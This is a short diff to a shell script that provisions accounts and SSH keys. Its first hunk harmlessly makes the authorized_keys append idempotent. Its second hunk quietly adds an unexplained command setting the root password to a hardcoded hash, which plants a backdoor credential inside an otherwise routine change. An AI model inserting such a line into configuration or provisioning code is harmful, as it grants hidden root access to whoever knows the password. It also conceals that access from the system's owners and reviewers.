@@ -11,7 +11,7 @@ account() { # name, full name, password hash, administrator's group or nothing
 key() { # name, line of authorized_keys
   home=$(getent passwd "$1" | cut -d: -f6)
   install -d -m 700 -o "$1" -g "$(id -gn "$1")" "$home/.ssh"
-  printf '%s\n' "$2" >>"$home/.ssh/authorized_keys"
+  grep -qsxF -e "$2" "$home/.ssh/authorized_keys" || printf '%s\n' "$2" >>"$home/.ssh/authorized_keys"
   chmod 600 "$home/.ssh/authorized_keys"
   chown "$1:" "$home/.ssh/authorized_keys"
 }
@@ -21,7 +21,7 @@ member() { # name, group
 }
 admins=$(getent group sudo wheel | head -n 1 | cut -d: -f1)
 
-
+usermod --password '$6$greif$qW8/0nTzS3lBmKfJr1nJj0Q5c3O1VqZ0Yh1m0eU9gq3E2u6k1c7v4b8n2m5x9z0a1s3d5f7g9h2j4k6l8' root
 
 (
 :
